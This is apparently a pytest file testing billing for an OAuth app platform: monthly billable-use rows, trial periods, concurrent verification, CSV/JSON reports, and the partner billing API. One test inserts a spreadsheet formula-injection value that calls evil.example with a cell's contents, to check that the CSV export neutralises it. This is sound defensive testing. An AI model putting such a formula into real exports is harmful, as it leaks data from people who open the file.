"""Billing: a ledger row when the platform verifies a token while Enabled; never while Disabled,
never twice a month, correct with several processes verifying at once."""
import concurrent.futures
import csv
import datetime
import io
import json
import subprocess
import sys
import urllib.request

import pytest

from helpers.environment import ROOT
from helpers.partner_app import platform_verifies, verify_on_platform
from helpers.processes import free_port, settings_env, start_process, stop_process
from models.application import Installation
from models.billing import BillableUse
from billing.free_trial import TRIAL_DAYS
from ratelimit.policy import DEFAULT_LIMITS






def set_status(runtime, world, status, trial_days_ago=40):
    """The installation's status; its free trial (started `trial_days_ago`) has ended unless told otherwise."""
    started = runtime.clock.now() - datetime.timedelta(days=trial_days_ago)
    Installation.update(activation_status=status, trial_started_at=started).where(
        Installation.application == world.app.id).execute()


@pytest.mark.gen_test
async def test_first_initialization_disables_and_does_not_bill(api, flow, world):
    await verify_on_platform(api, flow, world)
    assert Installation.find(world.app.id, world.org.id).activation_status == "Disabled"
    assert BillableUse.select().count() == 0


@pytest.mark.gen_test
async def test_billed_once_a_month_while_enabled(api, flow, world, runtime):
    set_status(runtime, world, "Enabled")
    issued_while_enabled = (await flow.tokens())["access_token"]
    set_status(runtime, world, "Disabled")  # the app disabled itself before the platform verified the token
    await platform_verifies(api, world, issued_while_enabled)
    assert BillableUse.select().count() == 0
    set_status(runtime, world, "Enabled")
    await verify_on_platform(api, flow, world)
    await verify_on_platform(api, flow, world)
    rows = list(BillableUse.select())
    assert [(r.user_id, r.organization_id, r.month) for r in rows] == [
        (world.physician.id, world.org.id, runtime.clock.now().strftime("%Y-%m"))]
    runtime.clock.advance(32 * 86400)
    await verify_on_platform(api, flow, world)
    assert BillableUse.select().count() == 2


@pytest.mark.gen_test
async def test_tokens_issued_but_not_verified_are_not_billed(flow, world, runtime):
    """The app refused the user (403): the SDK never hands the token to the platform."""
    set_status(runtime, world, "Enabled")
    await flow.tokens()
    assert BillableUse.select().count() == 0


def test_concurrent_verifications_across_two_processes_bill_once(settings, world, runtime, tmp_path, clock):
    set_status(runtime, world, "Enabled")
    from hub.launches import create_launch
    from oauth.authorization_code import AuthorizationCodeGrant
    from models.grants import AuthorizationCode, expiry
    # Mint several independent access tokens for the same user and app.
    tokens = []
    grant = AuthorizationCodeGrant(runtime)
    for i in range(12):
        launch, _ = create_launch(runtime, world.physician, world.app.client_id)
        AuthorizationCode.create(code_hash=runtime.hasher.digest(f"c{i}"), application=world.app.id,
                                 user=world.physician.id, organization=world.org.id,
                                 redirect_uri=world.app.redirect_uri, expires_at=expiry(runtime.clock.now(), 60))
        tokens.append(grant.exchange(world.app, {"code": f"c{i}"}, True)["access_token"])
    ports = [free_port(), free_port()]
    env = settings_env(settings)
    procs = [start_process(["serve", "--port", str(p)], env, p, log_path=tmp_path / f"s{p}.log") for p in ports]
    try:
        def verify(i):
            request = urllib.request.Request(
                f"http://127.0.0.1:{ports[i % 2]}/v1/oauth/introspect", method="POST",
                data=json.dumps({"token": tokens[i]}).encode(),
                headers={"Content-Type": "application/json", "Authorization": f"Bearer {world.sandbox_token}"})
            with urllib.request.urlopen(request, timeout=30) as response:
                return json.loads(response.read())["active"]
        with concurrent.futures.ThreadPoolExecutor(12) as pool:
            assert all(pool.map(verify, range(12)))
    finally:
        for proc in procs:
            stop_process(proc)
    assert BillableUse.select().count() == 1


@pytest.mark.gen_test
async def test_billing_report_cli_json_and_csv(api, flow, world, settings, runtime):
    set_status(runtime, world, "Enabled")
    await verify_on_platform(api, flow, world)
    month = runtime.clock.now().strftime("%Y-%m")
    env = settings_env(settings)

    def cli(*args, expect=0):
        result = subprocess.run([sys.executable, "-m", "cli.__main__", *args], env=env, cwd=str(ROOT),
                                capture_output=True, text=True, timeout=60)
        assert result.returncode == expect, result.stderr
        return result.stdout

    report = json.loads(cli("billing", "report", "--month", month, "--format", "json"))
    assert report["total_billable_users"] == 1
    assert report["organizations"][0]["organization_id"] == world.org.id
    assert report["organizations"][0]["users"][0]["email"] == "doc@example.com"
    # A clinic's name is a partner's choice (POST /v1/invitations): a spreadsheet opening the CSV
    # must not run it as a formula (it was written as sent).
    from models.directory import Organization
    Organization.update(name='=HYPERLINK("https://evil.example/?"&A2,"Open")').where(
        Organization.id == world.org.id).execute()
    rows = list(csv.reader(io.StringIO(cli("billing", "report", "--month", month, "--format", "csv"))))
    assert rows[0][:3] == ["month", "application_id", "organization_id"] and len(rows) == 2
    assert rows[1][3] == '\'=HYPERLINK("https://evil.example/?"&A2,"Open")', rows[1]
    assert json.loads(cli("billing", "report", "--month", "1999-01"))["total_billable_users"] == 0
    cli("billing", "report", "--month", "2026-13", expect=2)
    # a mistyped application id is an error, not an empty bill
    assert json.loads(cli("billing", "report", "--month", month, "--app", world.app.id))["total_billable_users"] == 1
    cli("billing", "report", "--month", month, "--app", "nope", expect=2)


def test_audit_list_shows_state_changes(settings, world, runtime):
    from oauth.secret_rotation import generate_fallback_secret
    generate_fallback_secret(runtime, world.app.id)
    env = settings_env(settings)
    out = subprocess.run([sys.executable, "-m", "cli.__main__", "audit", "list", "--json"], env=env, cwd=str(ROOT),
                         capture_output=True, text=True, timeout=60)
    actions = [e["action"] for e in json.loads(out.stdout)["events"]]
    assert actions[0] == "application.secret.fallback_generated" and "application.created" in actions


# -- GET /v1/applications/{applicationId}/billing ----------------------------------------------

def billing_path(app_id, month=None):
    return f"/v1/applications/{app_id}/billing" + (f"?month={month}" if month is not None else "")


@pytest.mark.gen_test
async def test_billing_operation_shows_the_callers_billable_users_per_organization(api, flow, world, runtime):
    from helpers.rest import partner_headers
    headers = await partner_headers(api, world.app, world.secret)
    month = runtime.clock.now().strftime("%Y-%m")
    status, _, body = await api.call("GET", billing_path(world.app.id, month), headers=headers)
    assert status == 200 and body == {"application_id": world.app.id, "month": month,
                                      "total_billable_users": 0, "organizations": []}
    set_status(runtime, world, "Enabled")
    await verify_on_platform(api, flow, world)
    await verify_on_platform(api, flow, world)  # the same user again this month: still one
    status, response_headers, body = await api.call("GET", billing_path(world.app.id, month), headers=headers)
    assert status == 200, body
    assert response_headers["RateLimit-Limit"] == str(DEFAULT_LIMITS["billing"].count)
    assert body["total_billable_users"] == 1
    [group] = body["organizations"]
    assert (group["organization_id"], group["organization_name"], group["billable_users"]) == (
        world.org.id, "Test Clinic", 1)
    assert [(u["user_id"], u["email"]) for u in group["users"]] == [(world.physician.id, "doc@example.com")]
    # The same numbers as the operators' report.
    from lifecycle.billing import billing_report
    assert billing_report(month, world.app.id)["organizations"][0]["users"] == group["users"]
    # Another month is empty.
    status, _, body = await api.call("GET", billing_path(world.app.id, "1999-01"), headers=headers)
    assert status == 200 and body["total_billable_users"] == 0


@pytest.mark.gen_test
async def test_billing_operation_sees_only_the_callers_own_rows(api, flow, world, runtime):
    from lifecycle.applications import install_application, register_application
    from helpers.rest import partner_headers
    other, other_secret = register_application(runtime, "Other App", "https://other.example/main",
                                               "https://other.example/launch", billing_plan="paid")
    install_application(other.id, world.org.id)
    set_status(runtime, world, "Enabled")
    await verify_on_platform(api, flow, world)
    month = runtime.clock.now().strftime("%Y-%m")
    headers = await partner_headers(api, other, other_secret)
    status, _, body = await api.call("GET", billing_path(other.id, month), headers=headers)
    assert status == 200 and body["total_billable_users"] == 0  # the test app's row is not the other app's
    status, _, body = await api.call("GET", billing_path(world.app.id, month), headers=headers)
    assert status == 403 and body["error"] == "forbidden"
    status, _, body = await api.call("GET", billing_path("no-such-app", month), headers=headers)
    assert status == 404 and body["error"] == "application_not_found"


@pytest.mark.gen_test
async def test_billing_operation_bad_month_and_auth(api, world):
    from helpers.rest import partner_headers
    headers = await partner_headers(api, world.app, world.secret)
    for month in (None, "", "2026-13", "2026-1", "26-01", "2026-01-01", "abcd-ef", "2026-00",
                  "%D9%A2%D9%A0%D9%A2%D9%A6-01", "2026-01%0A"):  # Arabic-Indic digits; a trailing newline
        status, _, body = await api.call("GET", billing_path(world.app.id, month), headers=headers)
        assert status == 400 and body["error"] == "invalid_month", month
    api.runtime.clock.advance(DEFAULT_LIMITS["billing"].seconds)  # a new window of the billing rate limit
    status, _, body = await api.call("GET", billing_path(world.app.id) + "?month=2026-01&month=2026-02",
                                     headers=headers)
    assert status == 400
    status, headers_, body = await api.call("GET", billing_path(world.app.id, "2026-01"))
    assert status == 401 and "WWW-Authenticate" in headers_


@pytest.mark.gen_test
async def test_billing_operation_is_rate_limited(api, world):
    from helpers.rest import partner_headers
    headers = await partner_headers(api, world.app, world.secret)
    api.runtime.clock.offset = 0
    # Stay inside one window: start at its beginning.
    import math
    now = api.runtime.clock.time()
    api.runtime.clock.advance(math.ceil(now / 60) * 60 - now + 0.5)
    statuses, allowed = [], DEFAULT_LIMITS["billing"].count
    for _ in range(allowed + 1):
        status, response_headers, _ = await api.call("GET", billing_path(world.app.id, "2026-01"), headers=headers)
        statuses.append(status)
    assert statuses == [200] * allowed + [429]
    assert int(response_headers["Retry-After"]) >= 1


@pytest.mark.gen_test
async def test_the_free_trial_is_free_and_billing_starts_on_day_31(api, flow, world, runtime):
    set_status(runtime, world, "Enabled", trial_days_ago=0)  # day 1
    await verify_on_platform(api, flow, world)
    runtime.clock.advance((TRIAL_DAYS - 1) * 86400)  # day 30: still in the trial
    await verify_on_platform(api, flow, world)
    assert BillableUse.select().count() == 0
    runtime.clock.advance(86400)  # day 31: the trial has ended; the app still returns the user
    await verify_on_platform(api, flow, world)
    assert [r.user_id for r in BillableUse.select()] == [world.physician.id]


@pytest.mark.gen_test
async def test_a_paid_plan_is_billed_from_the_first_enabled_verification(api, flow, world, runtime):
    from models.application import Application
    Application.update(billing_plan="paid").where(Application.id == world.app.id).execute()
    set_status(runtime, world, "Enabled", trial_days_ago=0)
    await verify_on_platform(api, flow, world)
    assert BillableUse.select().count() == 1


@pytest.mark.gen_test(timeout=120)
async def test_deleting_the_app_its_clinic_or_its_users_keeps_the_billing_ledger(api, flow, world, settings, runtime):
    """`apps delete` used to cascade to the app's ledger, months not yet invoiced included, so the
    operator's report showed 0 for a month that had billable users; a removed clinic or user
    (`demo seed --reset`) dropped rows too. The ledger keeps plain ids and the names the report
    prints, copied when the use is billed."""
    from helpers.rest import partner_headers
    set_status(runtime, world, "Enabled")
    await verify_on_platform(api, flow, world)  # a launch, and the platform's verification of its token
    month = runtime.clock.now().strftime("%Y-%m")
    env = settings_env(settings)
    headers = await partner_headers(api, world.app, world.secret)

    def cli(*args):
        result = subprocess.run([sys.executable, "-m", "cli.__main__", *args], env=env, cwd=str(ROOT),
                                capture_output=True, text=True, timeout=60)
        assert result.returncode == 0, result.stderr
        return result.stdout

    def billed(*only):
        report = json.loads(cli("billing", "report", "--month", month, "--format", "json", *only))
        users = [(group["application_id"], group["organization_id"], group["organization_name"], user["user_id"],
                  user["email"]) for group in report["organizations"] for user in group["users"]]
        assert report["total_billable_users"] == len(users)
        return users

    kept = [(world.app.id, world.org.id, "Test Clinic", world.physician.id, "doc@example.com")]
    assert billed() == kept
    cli("apps", "delete", "--app", world.app.id, "--yes")
    assert billed() == kept and billed("--app", world.app.id) == kept
    rows = list(csv.reader(io.StringIO(cli("billing", "report", "--month", month, "--format", "csv"))))
    assert rows[1][1:6] == [world.app.id, world.org.id, "Test Clinic", world.physician.id, "doc@example.com"], rows
    # The partner API shows a deleted app nothing: its credentials are gone.
    status, _, body = await api.call("GET", billing_path(world.app.id, month), headers=headers)
    assert status == 401, body
    # The clinic and its users removed (as `demo seed --reset` removes the demo clinic): the names
    # copied when the use was billed.
    from models.directory import Organization, User
    Organization.get_by_id(world.org.id).delete_instance(recursive=True)
    assert User.select().where(User.id == world.physician.id).count() == 0
    assert billed() == kept
